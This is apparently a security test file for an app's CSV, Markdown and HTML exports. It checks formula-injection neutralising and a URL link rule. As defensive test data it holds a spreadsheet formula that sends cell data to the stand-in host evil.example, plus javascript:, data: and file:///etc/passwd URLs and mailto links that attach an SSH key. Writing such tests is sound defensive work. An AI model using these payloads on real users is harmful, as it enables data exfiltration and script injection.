// Issue 13 finding 8: exports that are safe to open. CSV cells a spreadsheet would run as formulas are
// neutralised (OWASP: a leading single quote, inside quotes); the Markdown and HTML exports, of notes and
// of articles, link a URL only under one rule: http(s), and mailto without an attachment.
import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { JSDOM } from 'jsdom'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { exportArticle } from '../../../../src/main/services/export/articles'
import { csvField } from '../../../../src/main/services/export/formats/csv'
import { linkableUrl } from '../../../../src/main/services/export/formats/link'
import { renderNotes, type NotesDocument } from '../../../../src/main/services/export/notes'
import { importPaths } from '../../../../src/main/services/import-pipeline/pipeline'
// The importer's RFC 4180 reader, an independent check of what the exporter wrote.
import { parseCsv } from '../../../../src/main/services/formats/csv'
import { createTestContext, type TestContext } from '../../../helpers/context'

const FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1']

/** [url, may it be a link] */
const URLS: [string, boolean][] = [
  ['javascript:alert(document.domain)', false],
  ['JavaScript:alert(1)', false],
  ['data:text/html,<script>alert(1)</script>', false],
  ['file:///etc/passwd', false],
  ['vbscript:msgbox(1)', false],
  ['java\tscript:alert(1)', false],
  ['mailto:editor@example.org?attach=/home/me/.ssh/id_rsa', false],
  ['mailto:editor@example.org?%61ttachment=~/notes.db', false],
  ['https://example.org/新闻?id=1', true],
  ['http://example.org/a b', true],
  ['mailto:editor@example.org?subject=hi', true]
]

function doc(url: string, quote: string, note: string | null, title = 'T'): NotesDocument {
  return {
    generatedAt: '2024-05-01T00:00:00.000Z',
    script: 'original',
    annotationCount: 1,
    articles: [
      {
        id: 1,
        title,
        source: null,
        author: null,
        url,
        publishedAt: null,
        importedAt: '2024-05-01T00:00:00.000Z',
        contentHash: '0'.repeat(64),
        tags: [],
        annotations: [
          { id: 1, color: 'yellow', note, quote, prefix: '', suffix: '', textKind: 'clean', start: 0, end: 1, createdAt: '2024-05-01T00:00:00.000Z', updatedAt: '2024-05-01T00:00:00.000Z', author: null }
        ]
      }
    ]
  }
}

/** The href of the URL row of an HTML export, or null when it is text. */
function htmlHref(html: string): string | null {
  const a = new JSDOM(html).window.document.querySelector('.meta a')
  return a ? a.getAttribute('href') : null
}

/** Whether a Markdown export writes the URL as an autolink. */
function mdLinks(md: string): boolean {
  return /^- URL: </m.test(md)
}

describe('CSV export: formula injection', () => {
  it(`neutralises cells that start with = + - @ tab or CR, and round-trips through our CSV reader`, () => {
    let neutralised = 0
    for (const f of FORMULAS) {
      const csv = renderNotes(doc('https://example.org', f, f, f), 'csv')
      const rows = parseCsv(csv.slice(1))
      const [quote, title, , , note] = rows[1] as string[]
      // Read back: the text with one leading quote, which spreadsheets show as text.
      expect([quote, title, note]).toEqual([`'${f}`, `'${f}`, `'${f}`])
      expect(csvField(f).startsWith(`"'`)).toBe(true)
      neutralised++
    }
    console.log(`csv: ${neutralised}/${FORMULAS.length} formula-like cells neutralised with a leading quote`)
    expect(csvField('平靜安逸 = calm')).toBe('平靜安逸 = calm')
    expect(csvField('a, "b"')).toBe('"a, ""b"""')
    expect(csvField(42)).toBe('42')
  })
})

describe('one link rule for Markdown and HTML exports', () => {
  let t: TestContext
  beforeEach(async () => {
    t = await createTestContext()
  })
  afterEach(() => t.cleanup())

  it.each(URLS)('%s → link: %s', (url, linkable) => {
    expect(linkableUrl(url)).toBe(linkable ? url : null)
  })

  it('notes (md, html) and articles (md, html) link exactly the URLs the rule allows', async () => {
    let checked = 0
    let agreed = 0
    for (const [i, [url, linkable]] of URLS.entries()) {
      const file = join(t.dir, `a${i}.md`)
      writeFileSync(file, `---\ntitle: 文章${i}\nurl: ${JSON.stringify(url)}\n---\n\n正文第${i}篇，內容不同${'字'.repeat(i + 1)}。\n`)
      const report = await importPaths(t.db, [file], { worker: false })
      const id = report.imported[0]?.id
      expect(id, url).toBeDefined()
      const outputs = {
        notesMd: mdLinks(renderNotes(doc(url, 'q', null), 'md')),
        notesHtml: htmlHref(renderNotes(doc(url, 'q', null), 'html')) !== null,
        articleMd: mdLinks((await exportArticle(t.db, id as number, { format: 'md' })).content),
        articleHtml: htmlHref((await exportArticle(t.db, id as number, { format: 'html' })).content) !== null
      }
      for (const [name, linked] of Object.entries(outputs)) {
        checked++
        if (linked === linkable) agreed++
        expect(linked, `${name} ${url}`).toBe(linkable)
      }
      const articleMd = (await exportArticle(t.db, id as number, { format: 'md' })).content
      if (!linkable) expect(articleMd, url).not.toMatch(/<(?:javascript|data|file|vbscript|mailto):/i)
    }
    console.log(`links: ${agreed}/${checked} export outputs follow the rule (${URLS.filter(([, l]) => !l).length} unsafe URLs written as text)`)
  })
})
